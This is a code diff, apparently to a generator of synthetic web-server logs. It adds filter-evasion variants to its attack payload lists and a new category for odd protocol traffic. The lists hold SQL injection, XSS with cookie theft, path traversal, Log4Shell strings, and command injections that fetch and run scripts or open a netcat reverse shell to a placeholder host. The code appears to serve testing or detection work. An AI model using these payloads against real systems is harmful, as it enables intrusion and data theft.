@@ -97,8 +97,8 @@ std::string url_encode(std::string_view text, bool all) {
 }
 
 const std::vector<std::string_view>& attack_categories() {
-  static const std::vector<std::string_view> c{"sqli",           "xss",       "traversal",  "cmdi", "scanner",
-                                               "sensitive_file", "log4shell", "shellshock"};
+  static const std::vector<std::string_view> c{"sqli",           "xss",       "traversal",  "cmdi",    "scanner",
+                                               "sensitive_file", "log4shell", "shellshock", "protocol"};
   return c;
 }
 
@@ -115,29 +115,41 @@ gen_request attack_request(std::string_view category, seeded_random& rng) {
       "' or ''='", "1' WAITFOR DELAY '0:0:{s}'--",
       "-1' UNION/**/SELECT/**/1,2,group_concat(table_name) FROM information_schema.tables--",
       "1;SELECT pg_sleep({s})", "{n}) OR ({n}={n}", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
-      "{n}' UNION SELECT null,table_name FROM information_schema.tables WHERE 2>1--"};
+      "{n}' UNION SELECT null,table_name FROM information_schema.tables WHERE 2>1--",
+      // evasions
+      "{n}'/**/oR/**/1=1#", "{n} order by {n}-- -", "%u0027 or 1=1--", "{n}'||'1'='1", "1' aNd 2 bEtWeEn 1 and 3-- -"};
   static const std::vector<std::string_view> xss{
       "<script>alert({n})</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert({n})>",
       "<svg/onload=alert({n})>", "javascript:alert({n})", "'\"><iframe src=javascript:alert({n})>",
       "<body onload=alert('XSS')>", "<ScRiPt>prompt({n})</ScRiPt>",
       "\"><img src=x onerror=fetch('//{ip}/'+document.cookie)>", "<details open ontoggle=alert({n})>",
-      "<a href=\"javascript:confirm({n})\">{w}</a>", "{w}\" onmouseover=\"alert({n})", "<svg><animate onbegin=alert({n}) attributeName=x>"};
+      "<a href=\"javascript:confirm({n})\">{w}</a>", "{w}\" onmouseover=\"alert({n})", "<svg><animate onbegin=alert({n}) attributeName=x>",
+      // evasions
+      "<scr<script>ipt>alert({n})</scr</script>ipt>", "<a href=\"jav&#x09;ascript:alert({n})\">x</a>",
+      "<input autofocus onfocus=alert({n})>", "%u003Cscript%u003Ealert({n})%u003C/script%u003E"};
   static const std::vector<std::string_view> traversal{
       "../../../../etc/passwd", "../../../../../../etc/shadow", "....//....//....//etc/passwd",
       "..\\..\\..\\..\\windows\\win.ini", "../../../../../../etc/passwd%00.jpg",
       "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "/proc/self/environ",
       "../../../../../boot.ini", "..%2f..%2f..%2f..%2fetc%2fhosts", "../../../../var/www/html/{w}.php",
-      "../../config/database.{w}"};
+      "../../config/database.{w}",
+      // evasions
+      "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..;/..;/..;/WEB-INF/web.xml", "....\\....\\....\\windows\\win.ini",
+      "/%2e%2e/%2e%2e/%2e%2e/etc/group"};
   static const std::vector<std::string_view> cmdi{
       "127.0.0.1;id", "{ip} | whoami", "$(whoami)", "`uname -a`", "x && curl http://{ip}/x.sh | sh",
       ";wget http://{ip}/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b", "|nc -e /bin/sh {ip} 4444", ";ping -c 3 {ip}",
       "{w};ls -la", "x||ping -n 5 127.0.0.1", "$(curl -s http://{ip}/p.sh|bash)", ";${IFS}cat${IFS}/tmp/{w}",
-      "|| echo {n} > /tmp/{w}"};
+      "|| echo {n} > /tmp/{w}",
+      // evasions
+      ";{cat,/tmp/{w}}", "a;c''at /tmp/{w}", "%0aid", "x;w\\get http://{ip}/x"};
   static const std::vector<std::string_view> sensitive{
       "/.env", "/.git/config", "/.git/HEAD", "/wp-config.php.bak", "/config.php~", "/.aws/credentials", "/.ssh/id_rsa",
       "/backup.sql", "/db.sql", "/phpinfo.php", "/server-status", "/.DS_Store", "/.htpasswd", "/actuator/env",
       "/.svn/entries", "/web.config", "/config/database.yml", "/dump.sql.gz", "/{w}/.env", "/api/.env",
-      "/wp-config.php.save", "/.vscode/sftp.json", "/site.zip", "/phpmyadmin/index.php"};
+      "/wp-config.php.save", "/.vscode/sftp.json", "/site.zip", "/phpmyadmin/index.php",
+      // evasions
+      "/%2e%65nv", "/.git//HEAD", "/WP-CONFIG.PHP.BAK"};
   static const std::vector<std::string_view> log4shell{
       "${jndi:ldap://{ip}:1389/a}", "${jndi:rmi://{ip}/{w}}", "${${lower:j}ndi:${lower:l}dap://{ip}/x}",
       "${${::-j}${::-n}${::-d}${::-i}:rmi://{ip}/o}", "${jndi:dns://{w}.{ip}.nip.io/}",
@@ -180,6 +192,25 @@ gen_request attack_request(std::string_view category, seeded_random& rng) {
       case 0: r.agent = payload; r.target = "/"; break;
       case 1: r.referer = payload; r.target = "/" + random_word(rng); break;
       default: r.target = in_parameter(encode_payload(payload, rng), rng); break;
+    }
+  } else if (category == "protocol") {
+    r.status = 400;
+    r.bytes = rng.between(150, 170);
+    switch (rng.below(6)) {
+      case 0: {  // a TLS ClientHello sent to the plain-HTTP port
+        r.raw = "\x16\x03\x01";
+        for (int i = 0; i < 12; ++i) r.raw += static_cast<char>(rng.below(256));
+        r.agent = "-";
+        break;
+      }
+      case 1: r.raw = "SSH-2.0-Go"; r.agent = "-"; break;
+      case 2: r.method = std::string(rng.pick({"TRACE", "TRACK", "DEBUG"})); r.target = "/"; r.status = 405; break;
+      case 3: r.method = "CONNECT"; r.target = fill("{w}.example.net:443", rng); break;
+      case 4: r.target = fill("http://{ip}/proxy-check.php", rng); r.status = 404; break;
+      default:  // an RDP connection request (TPKT header, then the mstshash cookie)
+        r.raw = std::string("\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00", 11) + "Cookie: mstshash=Administr";
+        r.agent = "-";
+        break;
     }
   } else if (category == "shellshock") {
     const auto payload = fill(rng.pick(shellshock), rng);
